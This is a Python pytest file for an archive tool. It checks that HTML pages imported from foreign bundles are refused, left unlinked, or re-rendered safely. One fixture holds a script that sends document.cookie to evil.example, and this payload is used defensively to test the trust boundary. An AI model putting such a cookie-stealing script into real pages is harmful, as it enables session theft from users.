"""One trust rule for a page from someone's bundle, however it is reached: 'open' refuses it
without --trust, a report never links it, and 'render' replaces it whatever the run claims."""

from __future__ import annotations

import hashlib
import json
import re
from pathlib import Path

import numpy as np
import pytest

import qex_archive as qa
from qex_archive.bundle import import_bundle, pack_bundle
from qex_archive.store.integrity import check_archive
from qex_archive.views.html import may_show
from qex_archive.views.report import report_page, write_reports

from ..bundle_tools import read_members, rebag, write_zip
from ..cli_tools import invoke, one_line_error

SCRIPTED = b"<!DOCTYPE html><html><body><script>fetch('https://evil.example/'+document.cookie)</script></body></html>"


def hostile_bundle(tmp_path: Path, *, claim_attachment: bool) -> tuple[Path, str]:
    """A bundle of one run whose Bloch page holds a script; with ``claim_attachment`` its
    metadata also lists ``bloch`` among the run's attachments (so that 'render' would think
    the page cannot be made again)."""
    with qa.open_archive(tmp_path / "stranger") as source:
        source.capture = False
        run = source.record("e", params={"p": 1}, backend="b", state=np.eye(2) / 2)
        pack_bundle(source, tmp_path / "honest.qexb", runs=[run.run_id])
    members = read_members(tmp_path / "honest.qexb")
    description = json.loads(members["data/qex-bundle.json"])
    (entry,) = description["runs"]
    (page,) = [a for a in entry["artifacts"] if a["name"] == "bloch"]
    members[page["path"]] = SCRIPTED
    page["sha256"], page["size"] = hashlib.sha256(SCRIPTED).hexdigest(), len(SCRIPTED)
    if claim_attachment:
        entry["metadata"]["qex"]["attachments"] = ["bloch"]
    members["data/qex-bundle.json"] = json.dumps(description).encode()
    bundle = write_zip(tmp_path / "hostile.qexb", rebag(members))
    return bundle, run.run_id


@pytest.mark.parametrize("claim_attachment", [False, True])
def test_render_replaces_a_foreign_page_whatever_the_run_claims(
    tmp_path: Path, claim_attachment: bool
) -> None:
    bundle, run_id = hostile_bundle(tmp_path, claim_attachment=claim_attachment)
    root = tmp_path / "qex_data"
    with qa.open_archive(root) as arch:
        import_bundle(arch, bundle)
        (page,) = [a for a in arch.get(run_id).artifacts if a.name == "bloch"]
        assert page.foreign and page.path.read_bytes() == SCRIPTED
        assert (arch.get(run_id).attachment_names == ["bloch"]) is claim_attachment
    result = invoke(root, "render", run_id[:8])
    assert result.exit_code == 0, result.output
    with qa.open_archive(root) as arch:
        (page,) = [a for a in arch.get(run_id).artifacts if a.name == "bloch"]
        assert not page.foreign
        content = page.path.read_bytes()
        assert b"evil.example" not in content and b"default-src 'none'" in content
        assert re.findall(rb"<script(?![^>]*application/json)", content) == []
        # a second render mends it again (nothing shields the page now made here)
        assert [a.name for a in arch.render(run_id)] == ["bloch"]
        assert check_archive(arch) == []


def test_render_leaves_an_attachment_recorded_here(archive: qa.Archive) -> None:
    run = archive.record(
        "e", params={"p": 1}, backend="b", state=np.eye(2) / 2, attach={"counts": {"0": 5}}
    )
    before = run.attachment("counts").read()
    archive.render(run.run_id)
    assert archive.get(run.run_id).attachment("counts").read() == before


def test_a_report_never_links_a_foreign_page(tmp_path: Path) -> None:
    bundle, run_id = hostile_bundle(tmp_path, claim_attachment=False)
    root = tmp_path / "qex_data"
    with qa.open_archive(root) as arch:
        import_bundle(arch, bundle)
        arch.record("e", params={"p": 2}, backend="b", state=np.eye(2) / 2)  # made here
        runs = arch.runs()
        pages = [a for run in runs for a in run.artifacts if a.name == "bloch"]
        assert sorted(may_show(a) for a in pages) == [False, True]
        assert may_show(next(a for a in pages if a.foreign), trust=True)
        html = report_page(runs, page_dir=tmp_path).decode()
        hrefs = re.findall(r'href="([^"]+)"', html)
        assert len(hrefs) == 1 and run_id not in hrefs[0]
        assert "imported: render it" in html
        # a caller's own link function (pack --with-report) is held to the same rule
        every = report_page(runs, link=lambda run: f"data/{run.run_id}.html").decode()
        assert len(re.findall(r'href="([^"]+)"', every)) == 1 and f"data/{run_id}" not in every
        (written,) = write_reports(runs, tmp_path / "out.html", one_page=True)
        assert run_id not in "".join(re.findall(r'href="([^"]+)"', written.read_text()))
    result = invoke(root, "report", "-o", str(tmp_path / "cli.html"))
    assert result.exit_code == 0, result.output
    assert run_id not in "".join(re.findall(r'href="([^"]+)"', (tmp_path / "cli.html").read_text()))
    # once rendered here, the page is the archive's own and is linked
    assert invoke(root, "render", run_id[:8]).exit_code == 0
    assert invoke(root, "report", "-o", str(tmp_path / "after.html")).exit_code == 0
    assert run_id in "".join(re.findall(r'href="([^"]+)"', (tmp_path / "after.html").read_text()))


def test_open_asks_the_same_rule(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, browser_from_env: None
) -> None:
    bundle, run_id = hostile_bundle(tmp_path, claim_attachment=True)
    root = tmp_path / "qex_data"
    with qa.open_archive(root) as arch:
        import_bundle(arch, bundle)
    monkeypatch.setenv("BROWSER", "true")
    one_line_error(invoke(root, "open", run_id[:8]), "came from bundle", "--trust")
    assert invoke(root, "open", run_id[:8], "--trust").exit_code == 0
